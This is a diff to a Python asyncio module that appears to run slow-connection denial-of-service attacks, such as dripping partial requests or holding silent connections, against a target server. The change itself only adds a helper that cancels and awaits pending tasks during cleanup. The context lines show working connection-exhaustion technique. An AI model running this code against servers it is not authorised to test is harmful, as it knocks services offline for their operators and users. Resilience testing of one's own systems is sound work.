@@ -118,6 +118,17 @@ async def _wait(stop: asyncio.Event, seconds: float) -> bool:
     return stop.is_set()
 
 
+async def _cancel(*tasks: asyncio.Future[Any]) -> None:
+    """Cancel `tasks` and wait until they have ended: a task cancelled but never awaited
+    again is destroyed pending when the attack's loop closes (asyncio warns of it)."""
+    for task in tasks:
+        task.cancel()
+    for task in tasks:
+        with contextlib.suppress(asyncio.CancelledError, OSError, asyncio.IncompleteReadError,
+                                 TimeoutError):
+            await task
+
+
 async def _hold(target: Target, stop: asyncio.Event, stats: AttackStats, first: bytes,
                 drip: bytes, every: float) -> None:
     """One connection: send `first`, then one `drip` every `every` seconds, never the rest;
@@ -146,7 +157,7 @@ async def _hold(target: Target, stop: asyncio.Event, stats: AttackStats, first: 
                     break
                 writer.write(drip)
                 await writer.drain()
-            reading.cancel()
+            await _cancel(reading)
         except (OSError, asyncio.IncompleteReadError):
             stats.closed_by_server += 1
         finally:
@@ -331,9 +342,9 @@ async def _send_again(target: Target, stop: asyncio.Event, stats: AttackStats,
                 stopping = asyncio.ensure_future(stop.wait())
                 done, _ = await asyncio.wait({ask, stopping},
                                              return_when=asyncio.FIRST_COMPLETED)
-                stopping.cancel()
+                await _cancel(stopping)
                 if ask not in done:
-                    ask.cancel()
+                    await _cancel(ask)
                     return
                 status, _ = ask.result()
                 stats.answers[status] += 1
@@ -380,13 +391,13 @@ async def _silent(target: Target, stop: asyncio.Event, stats: AttackStats, sourc
             stopping = asyncio.ensure_future(stop.wait())
             done, _ = await asyncio.wait({reading, stopping},
                                          return_when=asyncio.FIRST_COMPLETED)
-            stopping.cancel()
+            await _cancel(stopping)
             if reading in done:
                 stats.closed_by_server += 1
                 if await _wait(stop, 0.2):
                     return
             else:
-                reading.cancel()
+                await _cancel(reading)
         except OSError:
             stats.closed_by_server += 1
         finally:
